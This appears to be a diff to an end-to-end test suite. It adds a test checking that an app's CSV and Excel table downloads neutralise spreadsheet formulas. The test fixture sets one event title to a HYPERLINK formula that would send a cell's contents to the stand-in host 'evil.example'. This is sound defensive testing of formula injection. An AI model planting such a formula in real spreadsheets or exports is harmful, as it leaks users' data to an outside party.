@@ -20,6 +20,7 @@ from test_e2e import TIMEOUT, settle
 PASSWORD = "correct horse battery"
 SECRET_NOTE = "SECRET-NOTE-7f3a"  # internal notes of every delegation and event
 SECRET_PHONE = "+49 231 5550199"  # phone numbers of every person
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'  # the title of one event
 
 
 def _plan_with_secrets():
@@ -28,7 +29,8 @@ def _plan_with_secrets():
         plan,
         delegations={k: replace(d, notes=f"{SECRET_NOTE} {d.notes}") for k, d in plan.delegations.items()},
         people={k: replace(p, phone=SECRET_PHONE) for k, p in plan.people.items()},
-        events=[replace(e, notes=f"{SECRET_NOTE} {e.notes}") for e in plan.events],
+        events=[replace(e, notes=f"{SECRET_NOTE} {e.notes}", title=FORMULA if n == 0 else e.title)
+                for n, e in enumerate(plan.events)],
     )
 
 
@@ -206,5 +208,36 @@ def test_the_history_route_does_reach_pages_the_role_may_open(server, browser):
         tap.forget()
         _ask_by_history(tap.page, "admin")
         assert _heading(tap.page) == "Admin" and b"Accounts" in tap.everything()
+    finally:
+        tap.close()
+
+
+def test_tables_downloaded_from_the_app_run_no_formula(server, browser):
+    import csv
+    import io
+    from pathlib import Path
+
+    import openpyxl
+
+    base, _, _ = server
+    tap = Wiretap(browser)
+    try:
+        _sign_in(tap, base, "protocol-user")
+        tap.page.get_by_role("link", name="Calendars and sharing").click()
+        tap.page.get_by_role("heading", name="Calendars and sharing", level=1).wait_for(timeout=TIMEOUT)
+        settle(tap.page)
+        tap.page.get_by_role("combobox", name="Calendar of").first.click()
+        tap.page.get_by_role("option", name="Everything (draft, internal)").first.click()
+        settle(tap.page)
+        with tap.page.expect_download() as download:
+            tap.page.get_by_role("button", name="As a table (CSV)").click()
+        cells = [c for row in csv.reader(io.StringIO(Path(download.value.path()).read_text("utf-8-sig"))) for c in row]
+        assert "'" + FORMULA in cells and FORMULA not in cells
+        assert not [c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "@")]
+        with tap.page.expect_download() as download:
+            tap.page.get_by_role("button", name="As a table (Excel)").click()
+        sheet = openpyxl.load_workbook(io.BytesIO(Path(download.value.path()).read_bytes())).active
+        titled = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
+        assert titled and all(c.data_type == "s" and c.quotePrefix for c in titled)
     finally:
         tap.close()
